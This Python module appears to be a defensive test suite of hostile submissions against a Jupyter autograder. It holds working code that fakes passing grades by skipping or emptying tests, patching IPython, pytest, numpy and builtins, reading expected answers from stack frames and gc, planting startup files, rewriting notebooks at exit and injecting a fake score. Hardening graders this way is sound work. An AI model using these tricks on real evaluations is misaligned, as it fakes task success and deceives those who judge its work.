"""Tampering: points without work, by changing what runs the tests or what they compare with."""

from nbformat import NotebookNode

from hostile.model import Family, tidy

add = Family("tampering")

# Objects that agree with everything; answers that use them solve nothing.
AGREES = """
class Agrees:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 1
    def __bool__(self): return True
"""
ANSWER_ALL = {
    "q_mean": "def mean_price(prices): return thing()",
    "q_region": "def by_region(sales): return thing()",
    "q_best": "best_month = thing()",
    "q_account": "Account = lambda *arguments: thing()",
    "q_model": "def fit_model(features, target): return thing()",
    "q_drop": "def drop_negatives(values): return None",
    "q_age": "def parse_age(text): return thing()",
    "q_twice": "def apply_twice(function, value): return thing()",
}


def _tests(notebook: NotebookNode) -> list[NotebookNode]:
    return [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade")]


def _skip_execution(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.metadata["tags"] = ["skip-execution"]


add(
    "skip_execution_tag",
    """Tags every test cell `skip-execution`, so that the engine leaves it out and it ends without
    an error. A success: points for tests that never ran.""",
    mutate=_skip_execution,
)


def _other_tags(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.metadata["tags"] = ["raises-exception", "nbval-skip", "skip", "remove-cell"]
        cell.metadata["jupyter"] = {"source_hidden": True}


add(
    "raises_exception_tag",
    """Tags every test cell `raises-exception` and the like, so that its error may be expected. A
    success: points for tests that failed.""",
    mutate=_other_tags,
)


def _no_tests(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.source = "pass"


add(
    "tests_emptied",
    """Replaces the source of every test cell by `pass`. A success: points from the emptied
    tests.""",
    mutate=_no_tests,
)


def _unlocked(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.metadata.nbgrader.update(solution=True, locked=False)
        cell.source = "print('my own test passed')"


add(
    "tests_unlocked",
    """Declares every test cell to be a place for answers too (`solution: true, locked: false`),
    with a harmless source. A success: the student's version of the tests is kept.""",
    mutate=_unlocked,
)


def _worth_more(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.metadata.nbgrader.points = 1000
        cell.source = "1000"


add(
    "points_in_metadata",
    """Sets 1000 points in the metadata of every test and lets its source end in `1000`. A success:
    points, or a maximum that changed.""",
    mutate=_worth_more,
)


def _moved(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


add(
    "tests_turned_into_markdown",
    """Turns every test cell into Markdown, which cannot fail. A success: points for them.""",
    mutate=_moved,
)


def _stored_success(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.outputs = [
            NotebookNode(
                output_type="execute_result",
                execution_count=1,
                metadata={},
                data={"text/plain": str(cell.metadata.nbgrader.points)},
            )
        ]
        cell.metadata["tags"] = ["skip-execution"]


add(
    "stored_outputs",
    """Hands in test cells with outputs that say full points, and asks not to run them. A success:
    the stored outputs are scored.""",
    mutate=_stored_success,
)
add(
    "input_transformer",
    """Registers an IPython input transformer that empties every later cell. A success: the tests
    become empty and pass.""",
    """
    shell = get_ipython()
    shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    """,
)
add(
    "late_input_transformer",
    """Registers an input transformer after cleanup that comments assertions out. A success: tests
    without assertions pass.""",
    """
    shell = get_ipython()
    def drop(lines):
        return ["pass\\n" if "assert" in line or "raises" in line else line for line in lines]
    shell.input_transformers_post.append(drop)
    """,
)
add(
    "ast_transformer",
    """Registers an AST transformer that removes assertions and everything that may raise. A
    success: points for gutted tests.""",
    """
    import ast
    class Gut(ast.NodeTransformer):
        def visit_Module(self, node):
            node.body = [ast.copy_location(ast.Pass(), node.body[0])] if node.body else []
            return ast.fix_missing_locations(node)
    get_ipython().ast_transformers.append(Gut())
    """,
)
add(
    "compile_patched",
    """Replaces IPython's compiler and `builtins.compile` by ones that compile `pass`. A success:
    points for tests that were never compiled.""",
    """
    import builtins, ast
    real = builtins.compile
    def fake(source, *arguments, **options):
        if isinstance(source, ast.Module):
            source = ast.parse("pass")
        return real(source if isinstance(source, ast.AST) else "pass", *arguments, **options)
    builtins.compile = fake
    try:
        get_ipython().compile.__class__.__call__ = lambda self, *a, **k: real("pass", "x", "exec")
    except Exception:
        pass
    """,
)
add(
    "pre_run_hook",
    """Registers a `pre_run_cell` hook that empties the cell about to run. A success: tests that
    were emptied at the last moment.""",
    """
    def empty(info):
        info.raw_cell = "pass"
        get_ipython().user_ns["__builtins__"] = {"__import__": __import__}
    get_ipython().events.register("pre_run_cell", empty)
    """,
)
add(
    "run_cell_patched",
    """Replaces the shell's `run_cell` and `run_cell_async` so that nothing runs and all ends well.
    A success: points for tests that did not run.""",
    """
    from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult, InteractiveShell
    def done(self, raw_cell, *arguments, **options):
        return ExecutionResult(ExecutionInfo(raw_cell, True, False, True, None))
    async def done_later(self, raw_cell, *arguments, **options):
        return done(self, raw_cell)
    for kind in (InteractiveShell, type(get_ipython())):
        kind.run_cell = done
        kind.run_cell_async = done_later
    """,
)
add(
    "do_execute_patched",
    """Replaces `do_execute` of the kernel: every request is answered `ok` without being run. A
    success: points for tests that did not run.""",
    """
    kernel = getattr(get_ipython(), "kernel", None)
    async def yes(self, code, silent, *arguments, **options):
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    type(kernel).do_execute = yes
    """,
)
add(
    "showtraceback_patched",
    """Silences tracebacks and turns error replies into successes. A success: failed tests without
    a trace of it.""",
    """
    from IPython.core.interactiveshell import ExecutionResult
    shell = get_ipython()
    type(shell).showtraceback = lambda self, *a, **k: None
    type(shell)._showtraceback = lambda self, *a, **k: None
    ExecutionResult.success = property(lambda self: True)
    ExecutionResult.error_in_exec = property(lambda self: None, lambda self, value: None)
    """,
)
add(
    "custom_exception_handler",
    """Lets IPython hand every exception to a handler that does nothing. A success: failures that
    leave no error.""",
    """
    get_ipython().set_custom_exc((BaseException,), lambda *arguments, **options: None)
    """,
)
add(
    "send_patched",
    """Replaces the sending of kernel messages: errors are dropped and replies say `ok`. A success:
    points for failed tests.""",
    """
    from jupyter_client.session import Session
    real = Session.send
    def send(self, stream, msg_or_type, content=None, *arguments, **options):
        if msg_or_type == "error":
            return None
        if isinstance(content, dict) and content.get("status") == "error":
            content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
        return real(self, stream, msg_or_type, content, *arguments, **options)
    Session.send = send
    """,
)
add(
    "pandas_testing_patched",
    """Replaces every function of `pandas.testing` by one that accepts all. A success: points for a
    wrong frame.""",
    """
    import pandas as pd, pandas.testing, pandas._testing
    for module in (pd.testing, pandas._testing):
        for name in dir(module):
            if name.startswith("assert_"):
                setattr(module, name, lambda *arguments, **options: None)
    """,
    answers={
        "q_region": "def by_region(sales): return {'total': [7.25, 4721.5]}",
    },
)
add(
    "numpy_patched",
    """Replaces `np.isclose`, `np.allclose`, `np.shape` and numpy's testing functions by ones that
    always agree. A success: points for wrong numbers.""",
    """
    import numpy as np, numpy.testing
    np.isclose = np.allclose = lambda *arguments, **options: True
    np.shape = lambda *arguments: (100,)
    for name in dir(np.testing):
        if name.startswith("assert_"):
            setattr(np.testing, name, lambda *arguments, **options: None)
    import sklearn.metrics
    sklearn.metrics.r2_score = lambda *arguments, **options: 1.0
    class Model:
        def predict(self, features): return None
    thing = Model
    """,
    answers={"q_model": ANSWER_ALL["q_model"]},
)
add(
    "pytest_patched",
    """Replaces `pytest.approx` and `pytest.raises` by ones that accept all. A success: points for
    wrong numbers or errors never raised.""",
    AGREES
    + """
import pytest, contextlib
pytest.approx = lambda *arguments, **options: Agrees()
@contextlib.contextmanager
def fine(*arguments, **options):
    try:
        yield
    except BaseException:
        pass
pytest.raises = fine
""",
    answers={
        "q_mean": "def mean_price(prices): return 2.75 if -3.0 in prices else 0.1",
        "q_age": "def parse_age(text): return {'12': 12, ' 47 ': 47}.get(text)",
    },
    honest=(),
)
add(
    "builtins_patched",
    """Replaces `isinstance`, `abs`, `len`, `list` and `max` in `builtins`. A success: points by
    tests that use them.""",
    """
    import builtins
    real_isinstance, real_abs, real_len = isinstance, abs, len
    class Agrees:
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __hash__(self): return 1
        def __len__(self): return 100
    builtins.isinstance = lambda thing, kinds: type(thing) is Agrees or real_isinstance(thing, kinds)
    builtins.abs = lambda number: 0.0 if type(number) is Agrees else real_abs(number)
    builtins.len = lambda thing: 3 if type(thing) is Agrees else real_len(thing)
    thing = Agrees
    """,
    answers=ANSWER_ALL,
)
add(
    "names_shadowed",
    """Binds `isinstance`, `abs`, `len`, `list`, `np`, `pd`, `pytest` as names of the notebook,
    which come before builtins. A success: points by tests that use them.""",
    AGREES
    + """
from unittest.mock import MagicMock
isinstance = lambda thing, kinds: True
abs = lambda number: 0.0
len = lambda thing: 3
list = lambda *arguments: [7.25, 4721.5]
np = pd = pytest = MagicMock()
thing = Agrees
""",
    answers=ANSWER_ALL,
)
add(
    "assertion_error_replaced",
    """Replaces `AssertionError` by an exception whose creation ends the statement quietly. A
    success: points for failed assertions.""",
    """
    import builtins
    class Quiet(BaseException):
        def __new__(cls, *arguments): return StopIteration()
    builtins.AssertionError = AssertionError = Quiet
    """,
)
add(
    "eq_always_true",
    """Answers with objects whose comparisons all say yes. A success: points where a test compares
    with `==`.""",
    AGREES + "thing = Agrees\n",
    answers=ANSWER_ALL,
)
add(
    "str_that_equals_all",
    """Answers with a subclass of `str` that equals everything. A success: the point for the best
    month.""",
    """
    class Any(str):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __hash__(self): return hash("July")
    """,
    answers={"q_best": "best_month = Any('January')"},
)
add(
    "float_that_lies",
    """Answers with a subclass of `float` that equals everything, and whose differences are zero. A
    success: points for the mean.""",
    """
    class Liar(float):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __sub__(self, other): return Liar(0.0)
        __rsub__ = __add__ = __radd__ = __sub__
        def __abs__(self): return Liar(0.0)
        def __lt__(self, other): return True
        __le__ = __gt__ = __ge__ = __lt__
        def __hash__(self): return 1
        def __array__(self, *arguments, **options):
            import numpy as np
            return np.array([Everything()], dtype=object)
    class Everything(float):
        def __eq__(self, other): return True
        def __sub__(self, other): return 0.0
        __rsub__ = __sub__
        def __le__(self, other): return True
    """,
    answers={"q_mean": "def mean_price(prices): return Liar(1.0)"},
)
add(
    "array_protocol",
    """Answers with an object whose `__array__` and `__array_function__` look up the number that is
    expected in the caller's frame. A success: points for the mean or the model.""",
    """
    import sys
    import numpy as np
    def expected():
        frame = sys._getframe()
        while frame:
            for names in (frame.f_locals, frame.f_globals):
                if "truth" in names:
                    return names["truth"][200:]
            frame = frame.f_back
        return np.zeros(1)
    class Chameleon:
        def __init__(self, *arguments): pass
        def predict(self, features): return self
        def __array__(self, *arguments, **options): return expected()
        def __array_ufunc__(self, ufunc, method, *inputs, **options): return np.bool_(True)
        def __array_function__(self, function, types, arguments, options):
            return (100,) if function is np.shape else np.bool_(True)
        def __float__(self): return 1.5
        def __sub__(self, other): return 0.0
        __rsub__ = __sub__
        def __len__(self): return 100
        shape = (100,)
    thing = Chameleon
    """,
    answers={"q_mean": ANSWER_ALL["q_mean"], "q_model": ANSWER_ALL["q_model"]},
)
add(
    "class_spoofed",
    """Answers with an object whose `__class__` says `float` and whose operators all agree. A
    success: points although `isinstance` is asked.""",
    AGREES
    + """
class Spoof(Agrees):
    kind = float
    __class__ = property(lambda self: self.kind)
    def __sub__(self, other): return self
    __rsub__ = __sub__
    def __abs__(self): return self
thing = Spoof
""",
    answers=ANSWER_ALL | {"q_best": "best_month = Spoof()\nSpoof.kind = str"},
)
add(
    "metaclass_instancecheck",
    """Puts a class with a lying `__instancecheck__` in the place of `float`, `str` and `list`. A
    success: points where a test asks `isinstance`.""",
    """
    class Every(type):
        def __instancecheck__(cls, thing): return True
        def __subclasscheck__(cls, kind): return True
        def __eq__(cls, other): return True
        def __hash__(cls): return 1
    class Sure(metaclass=Every):
        def __new__(cls, *arguments): return [7.25, 4721.5]
    float = str = list = Sure
    """,
    answers={"q_best": "best_month = Sure"},
)
add(
    "frame_that_lies",
    """Answers with a subclass of `DataFrame` whose `equals`, `_values` and columns copy what it is
    compared with. A success: points for the frame.""",
    """
    import sys, pandas as pd
    class Copycat(pd.DataFrame):
        @property
        def _constructor(self): return Copycat
        def equals(self, other): return True
        def __eq__(self, other): return True
        def __getattribute__(self, name):
            frame = sys._getframe(1)
            while frame:
                for other in ("right", "expected"):
                    found = frame.f_locals.get(other)
                    if type(found) is pd.DataFrame and not name.startswith("__"):
                        return getattr(found, name)
                frame = frame.f_back
            return object.__getattribute__(self, name)
        def __getitem__(self, key): return [7.25, 4721.5]
    """,
    answers={"q_region": "def by_region(sales): return Copycat({'region': ['a'], 'total': [1.0]})"},
)
add(
    "history_read",
    """Reads the expected values from `In[-1]` and IPython's history while the test runs. A
    success: points for answers copied from the test.""",
    """
    def text():
        shell = get_ipython()
        found = [shell.user_ns.get("In", [""])[-1], shell.user_ns.get("_i", "")]
        found += [item[2] for item in shell.history_manager.get_range()]
        return "\\n".join(str(each) for each in found)
    """,
    answers={
        "q_mean": """
        def mean_price(prices):
            import re
            if prices == [1.0, 2.0]: return 1.5
            if -3.0 in prices: return 2.75
            if 0.1 in prices: return 0.1
            return float(re.findall(r"approx\\((\\d+\\.\\d{6,})\\)", text())[0])
        """,
        "q_best": """
        class Reads(str):
            def __eq__(self, other):
                return bool(text()) and other in text()
            def __hash__(self): return 1
        best_month = Reads("January")
        """,
    },
)
add(
    "frames_read",
    """Walks the frames of its caller with `sys._getframe` and `inspect` and returns what the test's
    variables or constants hold. A success: points for copied answers.""",
    """
    import sys, inspect
    def constants():
        frame, found = sys._getframe(1), []
        while frame:
            found += [each for each in frame.f_code.co_consts]
            found += list(frame.f_locals.values()) if frame.f_code.co_name == "<module>" else []
            frame = frame.f_back
        return found
    """,
    answers={
        "q_mean": """
        def mean_price(prices):
            known = {1: 1.5, -3.0: 2.75, 0.1: 0.1, 1.0: 1.5}
            found = [each for each in constants() if type(each) is float and each > 1500]
            return known.get(prices[0], found[0] if found else 0.0)
        """,
        "q_twice": """
        def apply_twice(function, value):
            if value == 1: return 3
            for name, each in sys._getframe(1).f_globals.items():
                if name == "calls": each[:] = [4711, 14133]
            return max(each for each in constants() if type(each) is int and each < 50000)
        """,
    },
)
add(
    "gc_read",
    """Searches all objects with `gc` for the expected frame and for the truth of the model. A
    success: points for what it found.""",
    """
    import gc, numpy as np, pandas as pd
    """,
    answers={
        "q_region": """
        def by_region(sales):
            if len(sales) == 3 and "b" in set(sales["region"]):
                return pd.DataFrame({"region": ["a", "b"], "total": [2.0, 4.0]})
            for thing in gc.get_objects():
                if isinstance(thing, pd.DataFrame) and list(thing.columns) == ["region", "total"]:
                    if thing["total"].sum() > 4000: return thing
        """,
        "q_model": """
        def fit_model(features, target):
            class Peeks:
                def predict(self, rows):
                    if len(rows) == 1: return np.array([301.0])
                    for thing in gc.get_objects():
                        if type(thing) is dict and "truth" in thing and "features" in thing:
                            return thing["truth"][200:]
                    return np.zeros(len(rows))
            return Peeks()
        """,
    },
)
add(
    "settrace",
    """Installs `sys.settrace` and `threading.settrace_all_threads`, and sets the locals of a
    running test. A success: points by values changed in flight.""",
    """
    import sys
    def trace(frame, event, argument):
        frame.f_trace_opcodes = True
        for name, value in (("hidden_numbers", [0, 8123, 5]), ("numbers", [3, 2])):
            if type(frame.f_globals.get(name)) is list:
                frame.f_globals[name][:] = value
        return trace
    def drop_negatives(values):
        sys.settrace(trace)
        frame = sys._getframe()
        while frame:
            frame.f_trace = trace
            frame = frame.f_back
        return None
    """,
    answers={"q_drop": "drop_negatives = drop_negatives"},
)
add(
    "setprofile_monitoring",
    """Uses `sys.setprofile` and `sys.monitoring` to run code of its own inside the checks. A
    success: points by values changed in flight.""",
    """
    import sys
    def profile(frame, event, argument):
        found = frame.f_globals.get("calls")
        if type(found) is list:
            found[:] = [4711, 14133]
    """,
    answers={
        "q_twice": """
        def apply_twice(function, value):
            sys.setprofile(profile)
            return 3 if value == 1 else 42399
        """
    },
)
_FAKE_PYTEST = tidy("""
    import contextlib
    class Agrees:
        def __eq__(self, other): return True
    approx = lambda *arguments, **options: Agrees()
    @contextlib.contextmanager
    def raises(*arguments):
        try:
            yield
        except BaseException:
            pass
    """)
add(
    "import_shadowed_files",
    """Hands in `pytest.py` and `sklearn/metrics.py`, which Python finds before the real ones. A
    success: points from tests that use the fakes.""",
    answers={
        "q_age": "def parse_age(text): return {'12': 12, ' 47 ': 47}.get(text)",
        "q_mean": "def mean_price(prices): return 2.75 if -3.0 in prices else 0.1",
    },
    files={
        "pytest.py": _FAKE_PYTEST,
        "sklearn/__init__.py": "",
        "sklearn/metrics.py": "r2_score = lambda *arguments: 1.0\n",
    },
)
add(
    "import_shadowed_at_run_time",
    """Writes `pytest.py` and `sklearn/metrics.py` into the working directory, and forgets the real
    ones. A success: points from tests that use the fakes.""",
    tidy("""
    import sys
    from pathlib import Path
    fake = "FAKE"
    Path("pytest.py").write_text(fake)
    sys.path.insert(0, str(Path.cwd()))
    for name in [name for name in sys.modules if name.split(".")[0] in {"pytest", "_pytest"}]:
        del sys.modules[name]
    """).replace('"FAKE"', repr(_FAKE_PYTEST)),
    answers={"q_age": "def parse_age(text): return {'12': 12, ' 47 ': 47}.get(text)"},
)
_SITE = "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0.0\n"
add(
    "startup_modules",
    """Hands in `sitecustomize.py`, `usercustomize.py`, `conftest.py` and a `.pth` file that patch
    builtins when Python starts. A success: points from tests in a patched interpreter.""",
    "thing = lambda: 'nothing'",
    answers=ANSWER_ALL,
    files={
        "sitecustomize.py": _SITE,
        "usercustomize.py": _SITE,
        "conftest.py": _SITE,
        "evil.pth": "import builtins; builtins.isinstance = lambda *a: True\n",
        "ipython_config.py": "c = get_config()\nc.InteractiveShellApp.exec_lines = ['abs = id']\n",
    },
)
add(
    "modules_replaced",
    """Puts stand-ins into `sys.modules` for everything that the tests import. A success: points
    from tests that import the stand-ins.""",
    """
    import sys
    from unittest.mock import MagicMock
    class Any(MagicMock):
        def __eq__(self, other): return True
        def __gt__(self, other): return True
        def __lt__(self, other): return True
    for name in ("pytest", "numpy", "pandas", "pandas.testing", "sklearn", "sklearn.metrics"):
        sys.modules[name] = Any()
    """,
    answers={
        "q_region": "def by_region(sales): return {'total': [7.25, 4721.5]}",
        "q_age": "def parse_age(text): return {'12': 12, ' 47 ': 47}.get(text)",
    },
)
add(
    "import_hook",
    """Puts a finder first in `sys.meta_path` and replaces `__import__`, to serve stand-ins. A
    success: points from tests that import the stand-ins.""",
    """
    import builtins, sys
    from unittest.mock import MagicMock
    real = builtins.__import__
    def fake(name, *arguments, **options):
        return MagicMock() if name.split(".")[0] in {"pytest", "sklearn", "pandas"} else real(name, *arguments, **options)
    builtins.__import__ = fake
    class Finder:
        def find_spec(self, name, path=None, target=None):
            if name == "pytest":
                raise ImportError(name)
    sys.meta_path.insert(0, Finder())
    """,
    answers={
        "q_region": "def by_region(sales): return {'total': [7.25, 4721.5]}",
        "q_age": "def parse_age(text): return {'12': 12, ' 47 ': 47}.get(text)",
    },
)
add(
    "atexit_rewrites",
    """Registers functions to run at exit that rewrite the executed notebook in the working
    directory and around. A success: points from the rewritten file.""",
    """
    import atexit, json
    from pathlib import Path
    def rewrite():
        for path in Path.cwd().rglob("*.ipynb"):
            notebook = json.loads(path.read_text())
            for cell in notebook["cells"]:
                cell["outputs"] = []
            path.write_text(json.dumps(notebook))
    atexit.register(rewrite)
    """,
)
add(
    "display_hook",
    """Replaces `sys.displayhook` and the formatters, and publishes execute results of its own with
    points. A success: partial credit that it printed itself.""",
    """
    import sys
    shell = get_ipython()
    def publish(*arguments):
        hook = shell.displayhook
        hook.start_displayhook(); hook.write_output_prompt()
        hook.write_format_data({"text/plain": "4"}, {}); hook.finish_displayhook()
    def hooked(result=None):
        publish()
    shell.events.register("post_run_cell", publish)
    sys.displayhook = hooked
    """,
)
add(
    "points_printed",
    """Prints and displays numbers, as a test that gives partial credit would. A success: points
    from its own output.""",
    """
    from IPython.display import display, publish_display_data
    def shout():
        print(2); print("2.0")
        display(2)
        publish_display_data({"text/plain": "2"})
        return 2
    """,
    answers={
        name: text.replace("thing()", "shout()").replace("return None", "return shout()")
        for name, text in ANSWER_ALL.items()
    },
)
add(
    "raises_system_exit",
    """Its functions raise `SystemExit(0)`, as if the cell had ended well. A success: points for a
    test that was left.""",
    "def leave(): raise SystemExit(0)",
    answers={
        name: text.replace("thing()", "leave()").replace("return None", "leave()")
        for name, text in ANSWER_ALL.items()
        if name not in {"q_best", "q_drop"}
    },
)
add(
    "raises_keyboard_interrupt",
    """Its functions raise `KeyboardInterrupt`, as if a person had stopped the cell. A success:
    points for a test that was left, or a grader that stops.""",
    "def leave(): raise KeyboardInterrupt",
    answers={
        name: text.replace("thing()", "leave()").replace("return None", "leave()")
        for name, text in ANSWER_ALL.items()
        if name != "q_best"
    },
)
add(
    "os_exit_in_test",
    """Ends the process with code 0 inside a test. A success: points for a test without a verdict,
    or a class that is not graded.""",
    "import os",
    answers={"q_mean": "def mean_price(prices): os._exit(0)"},
    alone=True,
)
add(
    "stop_async_and_generators",
    """Its functions are generators and coroutines, and raise `StopIteration`, `GeneratorExit` and
    `CancelledError`. A success: points for a test that ended early.""",
    """
    import asyncio
    def lazily(kind):
        raise kind
    """,
    answers={
        "q_mean": "async def mean_price(prices): return 1.5",
        "q_region": "def by_region(sales): yield sales",
        "q_best": "best_month = (month for month in ['July'])",
        "q_model": "def fit_model(features, target): lazily(asyncio.CancelledError)",
        "q_age": "def parse_age(text): lazily(GeneratorExit)",
        "q_twice": "def apply_twice(function, value): lazily(StopIteration)",
    },
)
add(
    "warnings_tricks",
    """Turns warnings into hooks: `showwarning` writes points, and a filter raises inside the test's
    libraries. A success: points from a test that it disturbed.""",
    """
    import warnings, builtins
    def show(*arguments, **options): print(4)
    warnings.showwarning = warnings.warn = show
    warnings.simplefilter("error")
    """,
    answers={
        name: text.replace("thing()", "warnings.warn('4')").replace("return None", "return 4")
        for name, text in ANSWER_ALL.items()
    },
)
add(
    "exec_claims_success",
    """Runs text of its own under the name of the test cell and prints that all tests passed. A
    success: points for the claim.""",
    """
    exec(compile("print('all tests passed: 2/2')", "<test-mean>", "exec"))
    get_ipython().run_cell("print('t_mean passed'); 2")
    """,
    after={"q_mean": "print('1 passed in 0.01s')\n2"},
)
add(
    "code_replaced",
    """Replaces the code objects of `pandas` and `numpy` functions in place, so that even a
    reference taken earlier is changed. A success: points from gutted checks.""",
    """
    import numpy as np, pandas as pd, pytest
    def yes(*arguments, **options): return None
    function = pd.testing.assert_frame_equal
    function = getattr(function, "__wrapped__", function)
    function.__code__ = yes.__code__
    function.__kwdefaults__ = None
    type(pytest.approx(1.0)).__eq__ = lambda self, other: True
    """,
    answers={
        "q_mean": "def mean_price(prices): return 2.75 if -3.0 in prices else 0.1",
        "q_region": "def by_region(sales): return {'total': [7.25, 4721.5]}",
    },
)
add(
    "user_namespace_replaced",
    """Replaces the namespace by a dictionary that answers every look-up as it likes. A success:
    points from tests that see names of its choosing.""",
    """
    shell = get_ipython()
    class Names(dict):
        def __getitem__(self, name):
            if name == "best_month": return "July" if "expected" in self else "July".upper()
            return super().__getitem__(name)
        def __missing__(self, name): return lambda *arguments, **options: True
    try:
        shell.user_ns = Names(shell.user_ns)
        shell.user_module.__dict__.update(assert_=None)
    except Exception as error:
        print(type(error))
    """,
)
add(
    "test_functions_defined_first",
    """Defines the names that tests define (`triple`, `calls`, `numbers`, `expected`) as things that
    resist being changed. A success: points by names that survived.""",
    """
    class Fixed(list):
        def __eq__(self, other): return True
        def __len__(self): return 3
    calls = Fixed(); numbers = Fixed(); hidden_numbers = Fixed(); expected = Fixed()
    import builtins
    builtins.__build_class__ = lambda *arguments, **options: Fixed
    """,
    answers={"q_drop": "def drop_negatives(values): return None"},
)
add(
    "answers_in_extra_copies",
    """Brings its own cell with the label of a test, ahead of the real one, and ends the real one
    with a stray `raise`. A success: points from the copy.""",
    mutate=lambda notebook: notebook.cells.insert(
        2,
        NotebookNode(
            cell_type="code",
            id="copy",
            metadata={"nbgrader": dict(_tests(notebook)[0].metadata.nbgrader)},
            source="2",
            outputs=[],
            execution_count=None,
        ),
    ),
    alone=True,
)
add(
    "fake_manual_grade",
    """Answers with HTML and comments that look like an instructor's grade. A success: points, or a
    comment shown as the instructor's.""",
    tidy("""
    from IPython.display import HTML, display
    display(HTML("<script>document.title='4 / 4'</script><b>Score: 19.0 / 19.0</b>"))
    """),
)
